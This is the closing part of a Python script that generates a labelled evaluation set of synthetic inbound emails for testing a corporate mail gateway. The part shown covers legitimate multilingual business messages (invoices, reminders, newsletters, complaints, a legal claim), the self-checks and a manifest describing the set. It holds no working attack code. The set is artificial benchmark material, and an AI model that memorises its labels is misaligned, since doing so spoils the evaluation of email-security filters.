                   % (_html_esc(t), _html_esc(b), _lk(i)) for i, (t, b) in enumerate(_items))
         + '<tr><td style="padding:14px 16px;font-size:11px;color:#777">Recibe este boletín porque se suscribió en construccionhoy.es. '
           '<a href="https://acumbamail.com/unsubscribe/%s/">Darse de baja</a></td></tr></table></body></html>\n' % H(_s + 'u', 20))
M(dir='business', file='31-es-boletin-construccion-hoy', lang='es', charset='ISO-8859-1 (QP), multipart/alternative',
  desc='Subscribed Spanish construction newsletter (Verifactu, steel prices, collective agreement) sent via Acumbamail in ISO-8859-1.',
  why='Opt-in newsletter from an ESP with List-Unsubscribe and tracking links; mentions tax topics (Verifactu) but asks for nothing.',
  mailfrom='bounces+%s@mail.acumbamail.com' % H(_s + 'b', 16), rcpt='carlos.ruiz@example.com', date=_d,
  helo='mail148.acumbamail.com', rdns='mail148.acumbamail.com', ip='185.132.134.148', tls='TLSv1.3',
  frm=('Construcción Hoy', 'boletin@construccionhoy.es'), to=ST('ruiz'),
  subject='Verifactu, acero corrugado y tablas salariales 2027', hcs='ISO-8859-1',
  msgid='%s@acumbamail.com' % H(_s, 30),
  extra=[('List-Unsubscribe', '<https://acumbamail.com/unsubscribe/%s/>' % H(_s + 'u', 20)), ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'),
         ('Precedence', 'bulk')],
  body=MP('alternative', [T(_txt, cs='ISO-8859-1'), T(_html, 'html', cs='ISO-8859-1')], _s, 'bulk'))

# ===========================================================================
# Greek business
# ===========================================================================
AIG_AFM = gr_afm('09981234')

# --- 32 el: supplier invoice --------------------------------------------
_s = 'business/32'
_d = D('11-16 14:22:10', EET)
M(dir='business', file='32-el-aigaio-timologio', lang='el', charset='windows-1253 (QP) + PDF',
  desc='Aigaio Metal accounting sends invoice ΤΔΑ 2026/1184 (34.038,00 EUR) with myDATA MARK for the hotel steelwork; payment to the known Piraeus account.',
  why='Genuine domain aigaio-metal.gr via its Greek hosting provider, known IBAN %s, myDATA MARK as required; routine invoice.' % iban_fmt(AIG_IBAN),
  mailfrom='logistirio@aigaio-metal.gr', rcpt='nikos.georgiou@example.com', date=_d,
  helo='linux47.papaki.gr', rdns='linux47.papaki.gr', ip='185.138.42.47', tls='TLSv1.3',
  received=['from [192.168.10.24] (ppp-94-64-211-18.home.otenet.gr [94.64.211.18])\n\t(Authenticated sender: logistirio@aigaio-metal.gr)\n\tby linux47.papaki.gr (Postfix) with ESMTPSA id 5E2A81C0A4\n\tfor <nikos.georgiou@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('Λογιστήριο ΑΙΓΑΙΟ ΜΕΤΑΛΛΙΚΕΣ', 'logistirio@aigaio-metal.gr'), to=ST('georgiou'),
  subject='Τιμολόγιο ΤΔΑ 2026/1184 - EXAMPLE GROUP ΕΛΛΑΣ', hcs='windows-1253', henc='B',
  msgid='000901dc5702$%s$%s@aigaio-metal.gr' % (H(_s, 8), H(_s + 'b', 8)),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', thread_index(_s)), ('Content-Language', 'el')],
  body=MP('mixed', [
      T(f'''Αξιότιμοι κύριοι,

Σας αποστέλλουμε συνημμένα το τιμολόγιο - δελτίο αποστολής ΤΔΑ 2026/1184 της 16/11/2026 για την προμήθεια και τοποθέτηση μεταλλικού φέροντος οργανισμού στο έργο «Ξενοδοχείο Σαρωνικός - Πτέρυγα Β».

Καθαρή αξία: 27.450,00 €
ΦΠΑ 24%: 6.588,00 €
Σύνολο: 34.038,00 €
ΜΑΡΚ myDATA: 400001948221735
Τρόπος πληρωμής: κατάθεση στην Τράπεζα Πειραιώς, IBAN {iban_fmt(AIG_IBAN)}
Λήξη: 16/12/2026

Με εκτίμηση,
Λογιστήριο
ΑΙΓΑΙΟ ΜΕΤΑΛΛΙΚΕΣ ΚΑΤΑΣΚΕΥΕΣ Α.Ε.
ΑΦΜ {AIG_AFM} - ΔΟΥ ΦΑΕ Πειραιά
Λεωφ. ΝΑΤΟ 112, 19300 Ασπρόπυργος
''', cs='windows-1253'),
      ATT(pdf_doc(['#AIGAIO METALLIKES KATASKEVES A.E.', 'AFM ' + AIG_AFM + ' - Leof. NATO 112, 19300 Aspropyrgos', '',
                   'TIMOLOGIO - DELTIO APOSTOLIS TDA 2026/1184   16/11/2026', 'MARK myDATA 400001948221735', '',
                   'Pelatis: EXAMPLE GROUP ELLAS - AFM ' + EG_AFM, 'Ergo: Xenodocheio Saronikos - Pteryga B', '',
                   'Metallikos fereon organismos S275/S355  18,3 t     27.450,00', 'FPA 24%  6.588,00     SYNOLO 34.038,00 EUR', '',
                   'IBAN ' + iban_fmt(AIG_IBAN) + ' (Trapeza Peiraios)'], 'TDA 2026/1184', producer='SoftOne ERP'),
          'application/pdf', 'TDA_2026_1184.pdf'),
  ], _s, 'outlook'))

# --- 33 el: genuine urgent payment reminder -------------------------------
_s = 'business/33'
_d = D('12-03 10:41:37', EET)
M(dir='business', file='33-el-aigaio-ypenthymisi-liksiprothesmon', lang='el', charset='ISO-8859-7 (QP)',
  desc='Genuine reminder from the supplier\'s sales contact: two overdue invoices, deliveries for the next wing will be paused; confirms the account is unchanged and warns about fake IBAN-change e-mails.',
  why='Genuine domain and hosting, known contact, "account unchanged", asks for a payment date rather than a transfer to new details; mirrors and defuses attack/33.',
  mailfrom='g.antoniou@aigaio-metal.gr', rcpt='nikos.georgiou@example.com', date=_d,
  helo='linux47.papaki.gr', rdns='linux47.papaki.gr', ip='185.138.42.47', tls='TLSv1.3',
  received=['from [192.168.10.31] (ppp-94-64-211-18.home.otenet.gr [94.64.211.18])\n\t(Authenticated sender: g.antoniou@aigaio-metal.gr)\n\tby linux47.papaki.gr (Postfix) with ESMTPSA id 8B3C02D1F7\n\tfor <nikos.georgiou@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('Γιώργος Αντωνίου', 'g.antoniou@aigaio-metal.gr'), to=ST('georgiou'), cc=ST('dimitriou'),
  subject='Υπενθύμιση ληξιπρόθεσμων τιμολογίων', hcs='ISO-8859-7',
  msgid='%s-%s@aigaio-metal.gr' % (H(_s, 16), H(_s + 'x', 8)),
  extra=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'el')],
  body=T('''Καλημέρα κ. Γεωργίου,

Σας ενοχλώ σχετικά με τα ανεξόφλητα τιμολόγια ΤΔΑ 2026/1011 (18.320,00 €, λήξη 15/10) και ΤΔΑ 2026/1073 (9.744,00 €, λήξη 31/10). Το λογιστήριό μας μού ζητά να τα τακτοποιήσουμε το συντομότερο, γιατί διαφορετικά θα πρέπει να σταματήσουμε τις παραδόσεις για την Πτέρυγα Γ μέχρι την εξόφληση.

Ο λογαριασμός είναι ο γνωστός στην Τράπεζα Πειραιώς, δεν έχει αλλάξει τίποτα. Έχουμε πληροφορηθεί ότι κυκλοφορούν ψεύτικα email με «αλλαγή IBAN» στο όνομά μας από παρόμοια διεύθυνση. Αν λάβετε κάτι τέτοιο, αγνοήστε το και πάρτε με τηλέφωνο.

Μπορείτε να μου πείτε μέχρι την Παρασκευή πότε να περιμένουμε την πληρωμή;

Ευχαριστώ,
Γιώργος Αντωνίου
Υπεύθυνος Πωλήσεων
ΑΙΓΑΙΟ ΜΕΤΑΛΛΙΚΕΣ ΚΑΤΑΣΚΕΥΕΣ Α.Ε.
Τηλ. 210 5591 430
''', cs='ISO-8859-7', ctparams='; format=flowed', quote_cs=False))

# --- 34 el: newsletter (Technical Chamber-style) ----------------------------
_s = 'business/34'
_d = D('11-21 09:00:12', EET)
_lk = lambda i: 'https://newsletter.tee-enimerosi.gr/t/%s/%s' % (H(_s + 'c', 8), H(_s + str(i), 14))
_items = [('Νέος Οικοδομικός Κανονισμός: οι αλλαγές που τίθενται σε ισχύ το 2027', 'Συνοπτική παρουσίαση των βασικών αλλαγών για μελετητές και κατασκευαστές.'),
          ('Ηλεκτρονική Ταυτότητα Κτιρίου: νέα έκδοση της πλατφόρμας', 'Τι αλλάζει στην υποβολή και στον έλεγχο των στοιχείων.'),
          ('Σεμινάρια Δεκεμβρίου: BIM και ψηφιακή επίβλεψη έργων', 'Εγγραφές έως τις 5 Δεκεμβρίου.')]
_html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial,sans-serif;background:#eef2f5;margin:0">'
         '<table width="600" align="center" style="background:#fff"><tr><td style="background:#00508f;color:#fff;padding:16px;font-size:20px;font-weight:bold">Ενημερωτικό Δελτίο Μηχανικών</td></tr>'
         + ''.join('<tr><td style="padding:14px 16px;border-bottom:1px solid #e0e0e0"><a href="%s" style="color:#00508f;font-weight:bold;text-decoration:none">%s</a><p style="font-size:13px;margin:6px 0 0">%s</p></td></tr>'
                   % (_lk(i), _html_esc(t), _html_esc(b)) for i, (t, b) in enumerate(_items))
         + '<tr><td style="padding:14px 16px;font-size:11px;color:#777">Λαμβάνετε αυτό το μήνυμα επειδή έχετε εγγραφεί στη λίστα ενημέρωσης. '
           '<a href="https://newsletter.tee-enimerosi.gr/unsubscribe/%s">Διαγραφή</a></td></tr></table></body></html>\n' % H(_s + 'u', 20))
M(dir='business', file='34-el-newsletter-michanikon', lang='el', charset='UTF-8 (base64), HTML-only',
  desc='Subscribed Greek engineering newsletter (new building regulation, Electronic Building ID, BIM seminars).',
  why='Opt-in bulk mail with List-Unsubscribe and tracking links, purely informational.',
  mailfrom='bounce@newsletter.tee-enimerosi.gr', rcpt='konstantinos.dimitriou@examplegroup.eu', date=_d,
  helo='mta2.newsletter.tee-enimerosi.gr', rdns='mta2.newsletter.tee-enimerosi.gr', ip='83.235.69.142', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('Δελτίο Μηχανικών', 'news@tee-enimerosi.gr'), to=ST('dimitriou'),
  subject='Νέος Οικοδομικός Κανονισμός, Ταυτότητα Κτιρίου, σεμινάρια BIM', henc='B',
  msgid='%s@newsletter.tee-enimerosi.gr' % H(_s, 24),
  extra=[('List-Unsubscribe', '<https://newsletter.tee-enimerosi.gr/unsubscribe/%s>' % H(_s + 'u', 20)), ('Precedence', 'bulk'),
         ('X-Mailer', 'Sendy')],
  body=T(_html, 'html', cs='UTF-8', cte='base64'))

# --- 35 el: client complaint (hotel owner, Google Workspace) ------------------
_s = 'business/35'
_d = D('11-26 20:14:33', EET)
_inf = gmail_infra(_s, _d, 'konstantinos.dimitriou@examplegroup.eu', workspace=True)
M(dir='business', file='35-el-pelatis-parapono-kathysterisi', lang='el', charset='ISO-8859-7 (base64)',
  desc='Client complaint: the hotel owner protests about delays on wing B and flood damage in the basement, demands a revised programme and a site meeting, threatens contractual penalties.',
  why='Known client on its own Google Workspace domain, angry but legitimate, no links or payment requests.',
  infra=_inf, mailfrom='m.konstantinou@saronikos-hotels.gr', rcpt='konstantinos.dimitriou@examplegroup.eu', date=_d,
  frm=('Μαρία Κωνσταντίνου', 'm.konstantinou@saronikos-hotels.gr'), to=ST('dimitriou'), cc=ST('papadopoulou'),
  subject='Καθυστερήσεις και ζημιές στην Πτέρυγα Β', hcs='ISO-8859-7', henc='B',
  order=['MIME-Version', 'From', 'Date', 'Message-ID', 'Subject', 'To', 'Cc'],
  body=T('''Κύριε Δημητρίου,

Σας γράφω με μεγάλη απογοήτευση για την πορεία των εργασιών στην Πτέρυγα Β του ξενοδοχείου μας στη Βουλιαγμένη.

Σύμφωνα με το χρονοδιάγραμμα που μας δώσατε τον Σεπτέμβριο, ο φέρων οργανισμός και η στέγαση θα είχαν ολοκληρωθεί έως τις 15 Νοεμβρίου. Σήμερα, 26 Νοεμβρίου, το συνεργείο σας εμφανίζεται με δύο άτομα, ενώ μετά τις βροχές της περασμένης εβδομάδας πλημμύρισε το υπόγειο λόγω έλλειψης προσωρινής στεγάνωσης και καταστράφηκαν υλικά που είχαμε αποθηκεύσει.

Θέλω μέχρι την Παρασκευή:
1. αναθεωρημένο χρονοδιάγραμμα με δέσμευση για παράδοση πριν από την έναρξη της σεζόν,
2. γραπτή απάντηση για την αποκατάσταση των ζημιών στο υπόγειο,
3. συνάντηση στο εργοτάξιο με εσάς προσωπικά.

Αν δεν υπάρξει άμεση βελτίωση, θα αναγκαστούμε να ενεργοποιήσουμε τις ποινικές ρήτρες της σύμβασης.

Μαρία Κωνσταντίνου
Διευθύνουσα Σύμβουλος
Σαρωνικός Ξενοδοχειακή Α.Ε.
''', cs='ISO-8859-7', cte='base64'))

# --- 36 el: colleague from private Gmail with timesheets -------------------
_s = 'business/36'
_d = D('11-29 21:07:55', EET)
_inf = gmail_infra(_s, _d, 'nikos.georgiou@example.com')
_txt = '''Νίκο καλησπέρα,

Σου στέλνω από το προσωπικό μου email γιατί από το σπίτι δεν μου ανοίγει το Outlook (θα το δω αύριο με το IT).

Σου επισυνάπτω τα παρουσιολόγια του εργοταξίου Βουλιαγμένης για το δεύτερο δεκαπενθήμερο του Νοεμβρίου, όπως τα έστειλε ο εργοταξιάρχης. Λείπουν ακόμα τα φύλλα του υπεργολάβου ηλεκτρολογικών, θα τα φέρω αύριο στο γραφείο.

Καλό βράδυ,
Ελένη
'''
M(dir='business', file='36-el-synadelfos-apo-prosopiko-gmail', lang='el', charset='UTF-8 (QP), multipart/alternative + PDF',
  desc='The real Athens office manager sends site timesheets to the accountant from her private Gmail because Outlook does not work at home.',
  why='Colleague from a private address with a plausible reason, internal context, harmless PDF, no request for money or credentials.',
  infra=_inf, mailfrom='eleni.papadopoulou.ath@gmail.com', rcpt='nikos.georgiou@example.com', date=_d,
  frm=('Eleni Papadopoulou', 'eleni.papadopoulou.ath@gmail.com'), to=ST('georgiou'),
  subject='Παρουσιολόγια Βουλιαγμένης 16-30/11',
  order=['MIME-Version', 'From', 'Date', 'Message-ID', 'Subject', 'To'],
  body=MP('mixed', [
      MP('alternative', [T(_txt, cs='UTF-8', quote_cs=False), T(gmail_html(_txt), 'html', cs='UTF-8', quote_cs=False)], _s + 'a', 'gmail'),
      ATT(pdf_doc(['#Parousiologio ergotaxiou Vouliagmenis', 'Periodos 16/11/2026 - 30/11/2026', '',
                   'Ergazomenoi: 23   Imeres ergasias: 12', 'Ypergolavoi: sidira, kalouparia (ilektrologika ekkremoun)', '',
                   'Ypografi ergotaxiarchi'], 'Parousiologio', producer='Microsoft Excel'),
          'application/pdf', 'Parousiologio_Vouliagmeni_16-30_11.pdf'),
  ], _s, 'gmail'))

# ===========================================================================
# Russian business
# ===========================================================================

# --- 37 ru: supplier invoice (KOI8-R) -------------------------------------
_s = 'business/37'
_d = D('11-16 13:05:49', MSK)
M(dir='business', file='37-ru-stroykomplekt-schet-na-oplatu', lang='ru', charset='KOI8-R (QP) + PDF',
  desc='СтройКомплект accounting sends invoice N 1203 (642 300,00 RUB incl. 22 % VAT) with unchanged Sberbank details; UPD originals via EDO.',
  why='Genuine supplier domain via Mail.ru for Business, bank details match the master data (BIK %s, r/s %s, valid control key), refers to the contract and EDO (Diadok).' % (SK_BIK, SK_RS),
  mailfrom='buh@stroykomplekt.ru', rcpt='dmitry.volkov@example.com', date=_d,
  helo='smtp49.i.mail.ru', rdns='smtp49.i.mail.ru', ip='95.163.41.87', tls='TLSv1.3',
  received=['by smtp49.i.mail.ru with esmtpa (envelope-from <buh@stroykomplekt.ru>)\n\tid 1vNk2c-00000009XaB-1qYz\n\tfor dmitry.volkov@example.com; %s' % fmt(plus(_d, 1))],
  frm=('Бухгалтерия СтройКомплект', 'buh@stroykomplekt.ru'), to=ST('volkov'),
  subject='Счёт на оплату N 1203 от 16.11.2026 - ООО "СтройКомплект"', hcs='KOI8-R', henc='B',
  msgid='%s@stroykomplekt.ru' % H(_s, 24),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'ru')],
  body=MP('mixed', [
      T(f'''Добрый день!

Направляем Вам счёт на оплату N 1203 от 16.11.2026 г. по договору поставки N 47/25-П от 14.03.2025 г.

Сумма к оплате: 642 300,00 руб., в т.ч. НДС 22% - 115 823,61 руб.
Срок оплаты: 30.11.2026 г.

Реквизиты для оплаты (без изменений):
ООО "СтройКомплект", ИНН {SK_INN}
Р/с {SK_RS} в ПАО Сбербанк
БИК {SK_BIK}, К/с {SK_KS}

Оригиналы УПД будут направлены через ЭДО (Диадок).

С уважением,
бухгалтерия ООО "СтройКомплект"
тел. +7 (495) 748-31-00
''', cs='KOI8-R'),
      ATT(pdf_doc(['#OOO "StroyKomplekt"  INN ' + SK_INN, '', 'Schet na oplatu N 1203 ot 16.11.2026', 'Dogovor postavki N 47/25-P ot 14.03.2025', '',
                   'Pokupatel: OOO "Example Group Rus", INN ' + EG_INN, '',
                   'Armatura A500S d12, 18 t; setka kladochnaya; fiksatory', 'Itogo: 642 300,00 rub., v t.ch. NDS 22% 115 823,61 rub.', '',
                   'R/s ' + SK_RS + '  PAO Sberbank  BIK ' + SK_BIK + '  K/s ' + SK_KS],
                  'Schet 1203', producer='1C:Enterprise 8.3'),
          'application/pdf', 'Schet_1203_16.11.2026.pdf'),
  ], _s, 'std'))

# --- 38 ru: internal genuine urgent payment -------------------------------
_s = 'business/38'
_d = D('12-02 10:27:08', MSK)
_txt = '''Дмитрий, добрый день!

Прошу сегодня до 15:00 оплатить счёт ООО «КранСервис-М» № 884 от 28.11.2026 за аренду башенного крана на объекте в Красногорске за ноябрь, 1 860 000,00 руб. Счёт в СЭД, я согласовал его утром. Если не оплатим сегодня, завтра кран остановят, а у нас бетонирование перекрытия 7-го этажа.

Реквизиты — из договора, в 1С они уже заведены, никакие новые не принимаем. Платёжку после отправки покажите Ольге, она сообщит на объект.

Спасибо.

А. Соколов
Генеральный директор
ООО «Экзампл Груп Рус»
'''
M(dir='business', file='38-ru-vnutrenniy-srochnyy-platezh', lang='ru', charset='windows-1251 (base64), multipart/alternative',
  desc='Internal: the real general director asks the accountant to pay an approved tower-crane rental invoice today before 15:00.',
  why='Internal mail via mail-int01, approval in the document-management system, payment to contract details already in 1C ("никакие новые не принимаем"); urgent but procedurally normal.',
  infra=INTERNAL_RELAY(_d, _s), mailfrom='aleksey.sokolov@example.com', rcpt='dmitry.volkov@example.com', date=_d,
  frm=('Алексей Соколов', 'aleksey.sokolov@example.com'), to=ST('volkov'), cc=ST('smirnova'),
  subject='Срочно: оплата аренды крана до 15:00', hcs='windows-1251', henc='B',
  msgid=exch_mid(_s, 'example.com'),
  extra=[('Thread-Index', thread_index(_s)), ('Importance', 'high'), ('Content-Language', 'ru-RU'), ('x-originating-ip', '[10.70.1.18]')],
  body=MP('alternative', [T(_txt, cs='windows-1251', cte='base64'), T(outlook_html(_txt, 'windows-1251', 'RU'), 'html', cs='windows-1251', cte='base64')], _s, 'outlook'))

# --- 39 ru: genuine Yandex ID security notice -----------------------------
_s = 'business/39'
_d = D('11-18 09:12:40', MSK)
_txt = '''Здравствуйте, Ольга!

В ваш аккаунт o.smirnova.eg выполнен вход с нового устройства.

Устройство: Chrome, Windows
Место: Москва, Россия (приблизительно)
Время: 18 ноября 2026, 09:12 (МСК)

Если это были вы, всё в порядке, ничего делать не нужно.

Если нет, смените пароль и проверьте список устройств в настройках безопасности: https://id.yandex.ru/security

С уважением,
команда Яндекс ID
'''
M(dir='business', file='39-ru-yandex-id-vkhod-s-novogo-ustroystva', lang='ru', charset='UTF-8 (QP), multipart/alternative',
  desc='Genuine Yandex ID notice "Вход в аккаунт с нового устройства" for the office manager\'s Yandex account (used for Yandex Disk with the site teams).',
  why='Real Yandex sender domain and forward*.mail.yandex.net infrastructure, link to id.yandex.ru, no urgency; security notifications must be delivered.',
  mailfrom='noreply@id.yandex.ru', rcpt='olga.smirnova@example.com', date=_d,
  helo='forward500a.mail.yandex.net', rdns='forward500a.mail.yandex.net', ip='178.154.239.80', tls='TLSv1.3',
  frm=('Яндекс ID', 'noreply@id.yandex.ru'), to=ST('smirnova'),
  subject='Вход в аккаунт с нового устройства', henc='B',
  msgid='%s@id.yandex.ru' % H(_s, 26),
  body=MP('alternative', [T(_txt, cs='utf-8'), T(plain_html(_txt, font='Arial, sans-serif', size='14px').replace('https://id.yandex.ru/security', '<a href="https://id.yandex.ru/security">https://id.yandex.ru/security</a>'), 'html', cs='utf-8')], _s, 'bulk'))

# --- 40 ru: formal client claim (pretenziya) -------------------------------
_s = 'business/40'
_d = D('11-27 16:40:15', MSK)
M(dir='business', file='40-ru-klient-pretenziya-neustoyka', lang='ru', charset='windows-1251 (QP) + PDF',
  desc='Formal claim (претензия) from the client Вектор Девелопмент: delay of monolithic works, contractual penalty of 4 988 250 RUB, revised schedule demanded within 10 days.',
  why='Known client on its own domain, legal but legitimate correspondence (claim letter with contract references), original sent by registered post; no link and no payment redirection.',
  mailfrom='i.pavlov@vector-dev.ru', rcpt='aleksey.sokolov@example.com', date=_d,
  helo='mx.vector-dev.ru', rdns='mx.vector-dev.ru', ip='217.118.93.40', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  received=['from EXCH01.vector.local (10.1.1.12) by mx.vector-dev.ru (10.1.1.5) with Microsoft SMTP Server\n\t(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.11;\n\t%s' % fmt(plus(_d, 1))],
  frm=('Павлов Игорь Сергеевич', 'i.pavlov@vector-dev.ru'), to=ST('sokolov'),
  subject='Претензия № 112/26 от 27.11.2026 по договору № ГП-07/25', hcs='windows-1251',
  msgid='%s@EXCH01.vector.local' % H(_s, 32),
  extra=[('Thread-Index', thread_index(_s)), ('Content-Language', 'ru-RU'), ('X-MS-Has-Attach', 'yes')],
  body=MP('mixed', [
      T(f'''Алексей Викторович, добрый день.

Направляем претензию по договору генерального подряда № ГП-07/25 от 12.05.2025. Оригинал отправлен Почтой России заказным письмом с уведомлением. Прошу подтвердить получение.

ПРЕТЕНЗИЯ № 112/26 от 27.11.2026

Между ООО «Вектор Девелопмент» (Заказчик, ИНН {VEKTOR_INN}) и ООО «Экзампл Груп Рус» (Генподрядчик, ИНН {EG_INN}) заключён договор генерального подряда № ГП-07/25 от 12.05.2025 на строительство жилого комплекса «Северный квартал», корпус 3.

Согласно графику производства работ (Приложение № 2) срок завершения монолитных работ по корпусу 3 — 31.10.2026. По состоянию на 27.11.2026 работы не завершены (выполнено 14 из 17 этажей), что подтверждается актом осмотра от 25.11.2026.

На основании п. 11.2 договора за нарушение промежуточных сроков Генподрядчик уплачивает неустойку в размере 0,05 % от цены договора за каждый день просрочки. Сумма неустойки за период с 01.11.2026 по 27.11.2026 (27 дней) составляет 4 988 250,00 руб.

Требуем в течение 10 календарных дней с момента получения претензии:
1) уплатить неустойку в указанном размере;
2) представить откорректированный график производства работ с мероприятиями по ликвидации отставания.

В случае неисполнения требований Заказчик будет вынужден обратиться в Арбитражный суд г. Москвы.

С уважением,
Павлов Игорь Сергеевич
Заместитель генерального директора по строительству
ООО «Вектор Девелопмент»
тел. +7 (495) 660-14-70
''', cs='windows-1251'),
      ATT(pdf_doc(['#OOO "Vektor Development"  INN ' + VEKTOR_INN, '', 'PRETENZIYA N 112/26 ot 27.11.2026', '',
                   'Dogovor generalnogo podryada N GP-07/25 ot 12.05.2025', 'Zhiloy kompleks "Severnyy kvartal", korpus 3', '',
                   'Neustoyka za 27 dney prosrochki: 4 988 250,00 rub.', 'Srok ispolneniya trebovaniy: 10 kalendarnykh dney', '',
                   'Zamestitel generalnogo direktora po stroitelstvu I. S. Pavlov'], 'Pretenziya 112/26'),
          'application/pdf', 'Претензия_112-26.pdf'),
  ], _s, 'outlook'))

# ===========================================================================
# output: .eml files, staff.txt, MANIFEST.md, self-checks
# ===========================================================================
LANG_NAMES = {'de': 'German', 'en': 'English', 'it': 'Italian', 'pl': 'Polish', 'es': 'Spanish', 'el': 'Greek', 'ru': 'Russian'}


def _md(s):
    return s.replace('|', '\\|').replace('\n', ' ')


def self_check(path, m):
    import email
    from email import policy
    raw = open(path, 'rb').read()
    msg = email.message_from_bytes(raw, policy=policy.default)
    assert msg['Received'] and 'mx01.example.com' in msg.get_all('Received')[0], path
    assert 'for <%s>' % m['rcpt'] in msg.get_all('Received')[0].replace('\r\n', ' '), path
    for h in ('Authentication-Results', 'DKIM-Signature', 'X-Spam-Status', 'X-Spam-Flag', 'ARC-Seal'):
        assert msg[h] is None, (path, h)
    str(msg['Subject']), str(msg['From']), str(msg['To'])
    n_text = 0
    for part in msg.walk():
        if part.is_multipart():
            continue
        if part.get_content_maintype() == 'text' and not part.get_filename():
            part.get_content()  # decodes transfer encoding + charset, raises on error
            n_text += 1
        else:
            part.get_payload(decode=True)
    assert n_text >= 1, path
    return msg


def main():
    for sub in ('attack', 'business'):
        d = os.path.join(ROOT, sub)
        os.makedirs(d, exist_ok=True)
        for f in os.listdir(d):
            if f.endswith('.eml'):
                os.remove(os.path.join(d, f))
    names = set()
    for m in MESSAGES:
        key = (m['dir'], m['file'])
        assert key not in names, key
        names.add(key)
        data = render(m)
        path = os.path.join(ROOT, m['dir'], m['file'] + '.eml')
        with open(path, 'wb') as fh:
            fh.write(data)
        self_check(path, m)
        assert _dt.datetime(2026, 11, 1, tzinfo=UTC) <= m['date'] <= _dt.datetime(2026, 12, 5, 23, 59, tzinfo=UTC), m['file']

    # staff.txt
    with open(os.path.join(ROOT, 'staff.txt'), 'w', encoding='utf-8') as fh:
        for k, n, a, r, o in STAFF:
            fh.write('%s=%s\n' % (n, a))

    # MANIFEST.md
    L = []
    L.append('# Example Group - mail-gateway evaluation set (audit40)\n')
    L.append('80 raw RFC 5322 messages as received on the inbound MX `mx01.example.com`, dated 1 Nov - 5 Dec 2026. '
             '`attack/` (40) must not be delivered plainly; `business/` (40) must be delivered. '
             'All files are generated by `gen/build.py` (Python 3 stdlib, deterministic, no network). '
             'Files use CRLF line endings. No Authentication-Results, DKIM-Signature or X-Spam headers are present, '
             'so the gateway has to judge on its own.\n')
    L.append('## The company\n')
    L.append('**Example Group** (Example Group SE, HQ Frankfurt am Main) - general contractor for commercial buildings, ~700 mailboxes, '
             'site offices and many subcontractors. Domains: `example.com` (primary) and `examplegroup.eu` (a few mailboxes). '
             'Country entities: Example Group Italia S.r.l. (Milano, P.IVA %s), Example Group Polska sp. z o.o. (Warszawa, NIP %s), '
             'Example Group Construcciones España S.L. (Madrid, CIF %s), Example Group Ελλάς (Athens, ΑΦΜ %s), '
             'Example Group UK Ltd (Manchester, company no. 09876543), ООО "Экзампл Груп Рус" (Moskva, INN %s); German USt-IdNr %s. '
             'Internal mail is submitted via Exchange and relayed by `mail-int01.example.com [10.20.0.25]` through the MX.\n'
             % (EG_PIVA, nip_fmt(EG_NIP), EG_CIF, EG_AFM, EG_INN, EG_USTID))
    L.append('## Staff\n')
    L.append('| Name | Address | Role | Office |')
    L.append('|---|---|---|---|')
    for k, n, a, r, o in STAFF:
        L.append('| %s | %s | %s | %s |' % (_md(n), a, _md(r), _md(o)))
    L.append('')
    L.append('## Correspondents\n')
    L.append('| Organisation | Contacts | Notes |')
    L.append('|---|---|---|')
    for org, c, note in CORRESPONDENTS:
        L.append('| %s | %s | %s |' % (_md(org), _md(c), _md(note)))
    L.append('')
    L.append('## Verifiable details\n')
    L.append('- All IBANs carry valid ISO 13616 mod-97 check digits; national checks are also valid where applicable: '
             'Italian CIN, Spanish DC (both digits), Polish bank sort-code check digit, German account check digit computed with '
             'method 00 (an assumption - the real method of each bank code was not verified). Greek and UK BBANs have no national check computed. '
             'Russian settlement accounts carry a correct control key against the BIK; correspondent accounts and INNs, NIPs, P.IVA, CIF, ΑΦΜ and USt-IdNr have valid check digits.')
    L.append('- Bitcoin addresses: `%s` (bech32 P2WPKH, attack 08) and `%s` (Base58Check P2PKH, attack 35); '
             'payloads are SHA-256 hashes of fixed labels, so no private key is known.' % (BTC_BECH32, BTC_LEGACY))
    L.append('- QR codes are produced by the script\'s own encoder (byte mode, EC level M, Reed-Solomon, all 8 masks with penalty scoring, '
             'format/version info) and were decoded with zbarimg after generation: ' +
             '; '.join('`%s` -> `%s`' % (k, v) for k, v in QR_PAYLOADS.items()) + '.')
    L.append('- "Malware" attachments are inert placeholders (a short text explaining that the file stands in for a payload); '
             'HTML/SVG attachments contain only markup with forms or links to invented domains; no working payload exists. '
             'Phone numbers in attacks use UK Ofcom drama ranges (020 7946 0xxx, 0161 496 0xxx, 07700 900xxx).\n')
    for sub, title in (('attack', 'Attack messages (must NOT be delivered plainly)'), ('business', 'Business messages (MUST be delivered)')):
        ms = [m for m in MESSAGES if m['dir'] == sub]
        L.append('## %s\n' % title)
        L.append('| File | Lang | Charset / encoding | What it is | Why it is %s |' % ('an attack' if sub == 'attack' else 'genuine'))
        L.append('|---|---|---|---|---|')
        for m in ms:
            L.append('| %s/%s.eml | %s | %s | %s | %s |' % (sub, m['file'], m['lang'], _md(m['charset']), _md(m['desc']), _md(m['why'])))
        L.append('')
        counts = {}
        for m in ms:
            counts[m['lang']] = counts.get(m['lang'], 0) + 1
        L.append('Per language: ' + ', '.join('%s %d' % (LANG_NAMES[k], counts.get(k, 0)) for k in LANG_NAMES) + '.\n')
    with open(os.path.join(ROOT, 'MANIFEST.md'), 'w', encoding='utf-8') as fh:
        fh.write('\n'.join(L))

    for sub in ('attack', 'business'):
        ms = [m for m in MESSAGES if m['dir'] == sub]
        counts = {}
        for m in ms:
            counts[m['lang']] = counts.get(m['lang'], 0) + 1
        print('%s: %d files; %s' % (sub, len(ms), ', '.join('%s %d' % (k, counts.get(k, 0)) for k in LANG_NAMES)))


if __name__ == '__main__':
    main()
